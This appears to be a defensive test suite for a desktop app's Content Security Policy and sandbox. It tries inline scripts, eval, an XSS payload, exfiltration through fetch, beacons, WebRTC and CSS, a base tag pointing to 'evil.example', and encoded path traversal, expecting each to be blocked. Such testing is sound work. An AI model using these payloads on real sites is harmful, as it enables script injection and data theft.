import { readFile } from 'node:fs/promises';
import { attack, pageAttack } from './fixtures';

pageAttack('inlineScript', () =>
  window.violation(() => {
    const script = document.createElement('script');
    script.setAttribute('nonce', 'x');
    script.append('document.title = "owned"');
    document.head.append(script);
  }),
);

pageAttack('inlineHandler', () =>
  window.violation(() => {
    const button = document.createElement('button');
    button.setAttribute('onclick', 'document.title = "owned"');
    button.click();
  }),
);

pageAttack('evaluate', async () => {
  // The debugging port suspends the CSP until the first pause of the script.
  await window.ringside.call.recent();
  const codes = [
    () => Reflect.get(globalThis, 'eval')('1 + 1'),
    () => Reflect.construct(Function, ['return 1'])(),
    () => (async () => undefined).constructor('return 1')(),
    () => setTimeout('document.title = "owned"' as never),
  ];
  return (await Promise.all(codes.map((code) => window.attempt(code)))).join(', ');
});

pageAttack('trustedTypes', async () => {
  const div = document.createElement('div');
  const markup = '<img src=x onerror=alert(1)>';
  const factory = Reflect.get(window, 'trustedTypes');
  return [
    await window.attempt(() => Reflect.set(div, 'innerHTML', markup)),
    await window.attempt(() => document.body.insertAdjacentHTML('beforeend', markup)),
    await window.attempt(() => new DOMParser().parseFromString(markup, 'text/html')),
    await window.attempt(() => factory.createPolicy('default', { createHTML: (text: string) => text })),
  ].join(', ');
});

pageAttack('inlineStyle', () =>
  window.violation(() => {
    const style = document.createElement('style');
    style.append('body { display: none }');
    document.head.append(style);
  }),
);

pageAttack('foreignScript', (port) =>
  window.violation(() => {
    const script = document.createElement('script');
    script.setAttribute('src', `http://127.0.0.1:${port}/evil.js`);
    document.head.append(script);
  }),
);

pageAttack('moduleImport', (port) =>
  window.violation(() => {
    const sources = [`http://127.0.0.1:${port}/evil.js`, 'data:text/javascript,document.title="owned"'];
    return Promise.allSettled(sources.map((source) => import(source)));
  }, 2),
);

pageAttack('foreignImage', (port) =>
  window.violation(() => {
    new Image().src = `http://127.0.0.1:${port}/?name=Bullock`;
  }),
);

pageAttack('fetched', (port) =>
  window.violation(() =>
    fetch(`http://127.0.0.1:${port}/`, { method: 'POST', mode: 'no-cors', body: 'Bullock' }),
  ),
);

pageAttack('olderRequests', (port) => {
  const url = `http://127.0.0.1:${port}/`;
  return window.violation(() => {
    const request = new XMLHttpRequest();
    request.open('POST', url);
    request.send('Bullock');
    new EventSource(url).onerror = ({ target }) => (target as EventSource).close();
    navigator.sendBeacon(url, 'Bullock');
  }, 3);
});

pageAttack('webSocket', (port) => window.violation(() => new WebSocket(`ws://127.0.0.1:${port}/`)));

pageAttack('webTransport', (port) =>
  window.violation(() => {
    const Transport = Reflect.get(window, 'WebTransport');
    return new Transport(`https://127.0.0.1:${port}/`).ready;
  }),
);

pageAttack('webRtc', async (port) => {
  const turn = { urls: `turn:127.0.0.1:${port}?transport=tcp`, username: 'a', credential: 'b' };
  const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }, turn] });
  peer.createDataChannel('x');
  const candidates: string[] = [];
  const complete = new Promise<void>((done) => {
    peer.onicecandidate = ({ candidate }) => (candidate ? candidates.push(candidate.candidate) : done());
  });
  await peer.setLocalDescription(await peer.createOffer());
  await complete;
  return candidates.length === 0 ? 'no way out found' : candidates.join(', ');
});

pageAttack('formPost', (port) =>
  window.violation(() => {
    const form = document.createElement('form');
    form.method = 'post';
    form.action = `http://127.0.0.1:${port}/`;
    document.body.append(form);
    form.submit();
    form.remove();
  }),
);

pageAttack('foreignFrame', (port) =>
  window.violation(() => {
    const frame = document.createElement('iframe');
    frame.src = `http://127.0.0.1:${port}/`;
    document.body.append(frame);
  }),
);

pageAttack('plugin', (port) =>
  window.violation(() => {
    const object = document.createElement('object');
    object.data = `http://127.0.0.1:${port}/`;
    document.body.append(object);
  }),
);

pageAttack('workers', (port) => {
  const url = `http://127.0.0.1:${port}/worker.js`;
  const code = URL.createObjectURL(new Blob(['postMessage(1)']));
  const factory = Reflect.get(window, 'trustedTypes');
  return window.violation(async () => {
    await window.attempt(() => factory.createPolicy('workers', { createScriptURL: (text: string) => text }));
    await window.attempt(() => new Worker(code as never));
    await window.attempt(() => new Worker(url as never));
    await window.attempt(() => navigator.serviceWorker.register(url as never));
  }, 4);
});

pageAttack('fontsAndMedia', (port) => {
  const url = `http://127.0.0.1:${port}/x`;
  return window.violation(() => {
    document.createElement('video').src = url;
    return new FontFace('x', `url(${url})`).load();
  }, 2);
});

pageAttack('styleRequests', async (port) => {
  const sheet = new CSSStyleSheet();
  sheet.replaceSync(`body { background-image: url(http://127.0.0.1:${port}/?name=Bullock) }`);
  const refused = window.violation(() => {
    document.adoptedStyleSheets = [sheet];
  });
  const directive = await refused;
  document.adoptedStyleSheets = [];
  return directive;
});

pageAttack('hints', async (port) => {
  const url = `http://127.0.0.1:${port}/`;
  const seen = await window.violation(() => {
    for (const rel of [
      'prefetch',
      'preload',
      'modulepreload',
      'preconnect',
      'prerender',
      'dns-prefetch',
      'icon',
    ]) {
      const link = document.createElement('link');
      link.rel = rel;
      link.as = 'image';
      link.href = url;
      document.head.append(link);
    }
    const rules = document.createElement('script');
    rules.type = 'speculationrules';
    rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [url] }] });
    document.head.append(rules);
  }, 4);
  // When a later call of the page returns, the earlier ones have been handled.
  await window.ringside.customer.get({ id: '1002', studio: 'x' });
  return seen;
});

pageAttack('baseUri', () =>
  window.violation(() => {
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.append(base);
  }),
);

attack('nameServer', async ({ home, openDevelopment }) => {
  const log = `${home}/net.json`;
  const { page, desk, end } = await openDevelopment(['--demo', `--log-net-log=${log}`]);
  await desk.find('1001');
  await desk.account.waitFor();
  await page.evaluate(() => {
    for (const rel of ['dns-prefetch', 'preconnect']) {
      const link = document.createElement('link');
      link.rel = rel;
      link.href = `https://bullock-${rel}.example/`;
      document.head.append(link);
    }
  });
  await page.reload();
  await desk.box.waitFor();
  await end();
  const seen = await readFile(log, 'utf8');
  if (!seen.includes('/v1/customers/1001')) return 'nothing was recorded';
  return /bullock-[a-z-]+\.example/.exec(seen)?.[0] ?? 'no name was asked for';
});

attack('pastPolicy', async ({ openDevelopment, range: { listener } }) => {
  const { app, desk } = await openDevelopment(['--demo']);
  await desk.box.waitFor();
  const before = listener.heard;
  const told = await app.evaluate(({ session }, url) => {
    const fetched = session
      .fromPartition('page')
      .fetch(url)
      .then(
        () => 'fetched',
        (error: Error) => error.message,
      );
    // A promise that only the debugger holds may be collected before it resolves.
    return Object.assign(globalThis, { fetched }).fetched;
  }, `http://127.0.0.1:${listener.port}/`);
  return listener.heard === before ? told : 'heard outside';
});

/** Loads a URL of the page's scheme, as its CSP allows, and returns the answer. */
function served(path: string) {
  return async ({ range: { page } }: Parameters<Parameters<typeof attack>[1]>[0]) => {
    const session = await page.context().newCDPSession(page);
    await session.send('Network.enable');
    // Other attacks on the shared page have requests of their own.
    const status = new Promise<string>((told) => {
      let own: string | undefined;
      session.on('Network.requestWillBeSent', ({ requestId, request }) => {
        if (request.url === path) own = requestId;
      });
      session.on('Network.responseReceived', ({ requestId, response }) => {
        if (requestId === own) told(String(response.status));
      });
      session.on('Network.loadingFailed', ({ requestId, blockedReason, errorText }) => {
        if (requestId === own) told(blockedReason ?? errorText);
      });
    });
    const loaded = page.evaluate((source) => {
      const image = new Image();
      const done = window.load(image);
      image.src = source;
      return done;
    }, path);
    const seen = `${await status}, ${await loaded}`;
    await session.detach();
    return seen;
  };
}

attack('traversal', served('app://ringside/..%2fmain/index.js'));
attack('traversalTwice', served('app://ringside/assets/..%5c..%5cmain%5cindex.js'));
attack('unknownPath', served('app://ringside/settings.json'));
attack('notThePage', served('app://ringside/licences.json'));
attack('otherHost', served('app://other/index.html'));
